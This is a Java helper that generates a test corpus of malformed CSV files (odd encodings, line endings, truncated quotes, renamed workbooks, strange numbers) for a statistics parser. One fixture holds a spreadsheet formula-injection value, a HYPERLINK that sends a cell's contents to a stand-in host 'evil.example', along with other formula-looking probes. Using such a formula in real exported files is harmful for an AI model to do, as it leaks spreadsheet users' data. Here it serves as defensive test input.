package ma.observatory.csv;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The exact bytes of every file of {@code src/test/resources/corpus/}: real-world mishaps, each
 * small and named after what it is. The files are checked in; {@link CorpusTest} checks that they
 * still hold these bytes (an editor or a Git setting that changes line endings or encodings would
 * otherwise quietly turn a Windows-1252 CRLF file into something else). To add a file, add it here,
 * run {@code main} once from the project directory, and give it an expected outcome in CorpusTest.
 */
final class CorpusFiles {

    static final Path DIRECTORY = Path.of("src/test/resources/corpus");
    static final Charset CP1252 = CsvDialect.WINDOWS_1252;
    static final String HEADER =
            "period,geo,area,sex,age_group,population,labour_force,employed,unemployed,underemployed,source";
    static final String SEMICOLON_HEADER = HEADER.replace(',', ';');

    private CorpusFiles() {
    }

    static Map<String, byte[]> all() {
        Map<String, byte[]> files = new LinkedHashMap<>();

        // Excel, French locale, "CSV (separator: semicolon)": Windows-1252, CRLF, decimal comma, no-break
        // space between thousands, accents, and a formatted but empty row saved as separators only.
        files.put("excel-french-export-semicolon-decimal-comma-cp1252.csv", text(CP1252, "\r\n",
                SEMICOLON_HEADER,
                "2024;MA;total;total;15+;27\u00A0834,5;12\u00A0450,2;10\u00A0820,1;1\u00A0630,1;1\u00A0050,3;"
                        + "Enquête nationale sur l'emploi – HCP",
                "2024-Q1;MA;urban;female;15-24;1\u00A0234,5;456,7;300,2;156,5;;Enquête emploi, été",
                ";;;;;;;;;;"));

        files.put("windows-1252-accents.csv", text(CP1252, "\n",
                HEADER,
                "2024,MA,total,male,15+,100,50,45,5,,\"Haut-Commissariat au Plan – enquête « emploi », révisée\"",
                "2023,MA,rural,female,25-34,80,40,38,2,1,Œuvre d’évaluation à Fès – coût 12 €"));

        // Excel "CSV UTF-8": a byte order mark glued to the first header name, semicolons, CRLF.
        files.put("bom-plus-semicolons.csv", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                text(StandardCharsets.UTF_8, "\r\n",
                        SEMICOLON_HEADER,
                        "2024;MA;total;total;15+;100;50,5;45;5,5;;Enquête nationale sur l’emploi")));

        files.put("header-trailing-spaces-odd-case.csv", text(StandardCharsets.UTF_8, "\n",
                " Period ,GEO ,Area,  SEX,Age_Group , POPULATION,Labour_Force,employed ,UNEMPLOYED, underEmployed ,Source  ",
                "2024,MA,total,total,15+,100,50,45,5,,HCP"));

        files.put("header-only.csv", text(StandardCharsets.UTF_8, "\r\n", HEADER));

        files.put("empty-file.csv", new byte[0]);

        files.put("bom-only.csv", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});

        files.put("duplicated-header-names.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER + ",Employed",
                "2024,MA,total,total,15+,100,50,45,5,,HCP,45"));

        files.put("trailing-separator-every-line.csv", text(StandardCharsets.UTF_8, "\r\n",
                HEADER + ",",
                "2024,MA,total,total,15+,100,50,45,5,,HCP,",
                "2024,MA,urban,total,15+,60,30,27,3,,HCP,"));

        files.put("crlf-line-endings.csv", text(StandardCharsets.UTF_8, "\r\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,HCP",
                "",
                "2024,MA,urban,total,15+,60,30,27,3,,HCP"));

        files.put("mixed-line-endings.csv", bytes(StandardCharsets.UTF_8,
                HEADER + "\n"
                        + "2024,MA,total,total,15+,100,50,45,5,,HCP\r\n"
                        + "\r"
                        + "2024,MA,urban,total,15+,60,30,27,3,,HCP\r"
                        + "2024,MA,rural,total,15+,40,20,18,2,,HCP\n"));

        files.put("quoted-field-with-newline.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,\"HCP\nENE 2024\"",
                "2024,MA,urban,total,15+,60,30,27,3,,HCP"));

        // A copy that failed half-way: the last line opens a quote that the file never closes.
        files.put("truncated-inside-quote.csv", bytes(StandardCharsets.UTF_8,
                HEADER + "\n"
                        + "2024,MA,total,total,15+,100,50,45,5,,HCP\n"
                        + "2024,MA,urban,total,15+,60,30,27,3,,\"Enquête nationale sur l'emp"));

        // A UTF-8 file cut in the middle of a two-byte 'è' (C3 A8): its first byte only.
        files.put("utf8-cut-inside-a-character.csv", concat(text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,Enquête"), bytes(StandardCharsets.UTF_8,
                "2024,MA,urban,total,15+,60,30,27,3,,Fès-Mekn"), new byte[] {(byte) 0xC3}));

        files.put("text-after-closing-quote.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,HCP",
                "2024,MA,urban,total,15+,60,30,27,3,,\"HCP\" ENE 2024",
                "2024,MA,rural,total,15+,40,20,18,2,,HCP"));

        // Excel "Unicode Text": UTF-16 little endian with its byte order mark, tab separated.
        files.put("utf16-excel-unicode-text.csv", concat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                text(StandardCharsets.UTF_16LE, "\r\n", HEADER.replace(',', '\t'),
                        "2024\tMA\ttotal\ttotal\t15+\t100\t50\t45\t5\t\tHCP")));

        // The same saved by a tool that writes no byte order mark: every other byte of the header is NUL.
        files.put("utf16-without-byte-order-mark.csv", text(StandardCharsets.UTF_16LE, "\r\n", HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,HCP"));

        // An Excel 97-2003 workbook renamed to .csv: the start of an OLE2 compound file.
        files.put("xls-renamed-to-csv.csv", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1,
                (byte) 0xB1, 0x1A, (byte) 0xE1, 0, 0, 0, 0});

        // A workbook renamed to .csv: the start of a ZIP archive.
        files.put("xlsx-renamed-to-csv.csv", concat(new byte[] {'P', 'K', 3, 4, 20, 0, 6, 0, 8, 0},
                bytes(StandardCharsets.US_ASCII, "[Content_Types].xml")));

        // Text pasted from web pages and spreadsheets: it must come through as the same text.
        files.put("formula-looking-values.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"HCP\"\")\"",
                "2024,MA,urban,total,15+,60,30,27,3,,-Ambiguous",
                "2024,MA,rural,total,15+,40,20,18,2,,+212 522 00 00 00",
                "2024,MA,total,male,15+,50,25,20,5,,@SUM(A1:A9)",
                "2024,MA,total,female,15+,=1+1,25,20,5,,HCP"));

        files.put("hostile-numbers.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,1e400,50,45,5,,HCP",
                "2024,MA,urban,total,15+,NaN,30,27,3,,HCP",
                "2024,MA,rural,total,15+,100,50,45,5,-0,HCP",
                "2024,MA,total,male,15+,\"1 234,5\",25,20,5,,HCP",
                "2024,MA,total,female,15+,\"1 234.5\",25,20,5,,HCP",
                "2023,MA,total,total,15+,Infinity,50,45,5,,HCP",
                "2023,MA,urban,total,15+,0x1F,30,27,3,,HCP",
                "2023,MA,rural,total,15+,100,50,-45,5,,HCP",
                "2022,MA,total,total,15+,9223372036854775808,50,45,5,,HCP"));

        // French Excel saves formatted but empty rows as separators only.
        files.put("separators-only-rows.csv", text(StandardCharsets.UTF_8, "\r\n",
                SEMICOLON_HEADER,
                "2024;MA;total;total;15+;100;50;45;5;;HCP",
                ";;;;;;;;;;",
                " ; ;;;;;;;;;",
                "2024;MA;urban;total;15+;60;30;27;3;;HCP",
                ";;;;;;;;;;"));

        files.put("short-and-long-rows.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,HCP",
                "2024,MA,urban,total,15+,60,30,27,3,,HCP,provisional",
                "2024,MA,rural,total,15+,40,20,18,2,,HCP,,",
                "Note : chiffres provisoires"));

        files.put("nul-bytes.csv", text(StandardCharsets.UTF_8, "\n",
                HEADER,
                "2024,MA,total,total,15+,100,50,45,5,,HCP\u0000ENE",
                "2024,MA,urban,total,15+,6\u00000,30,27,3,,HCP"));
        return files;
    }

    private static byte[] text(Charset charset, String eol, String... lines) {
        return bytes(charset, String.join(eol, lines) + eol);
    }

    private static byte[] bytes(Charset charset, String text) {
        return text.getBytes(charset);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    /** Writes the corpus; run from the project directory. */
    public static void main(String[] args) throws IOException {
        Files.createDirectories(DIRECTORY);
        for (Map.Entry<String, byte[]> e : all().entrySet()) {
            Files.write(DIRECTORY.resolve(e.getKey()), e.getValue());
        }
        Files.writeString(DIRECTORY.resolve(".gitattributes"),
                "# exact bytes: no line ending or encoding conversion\n* -text\n");
    }
}
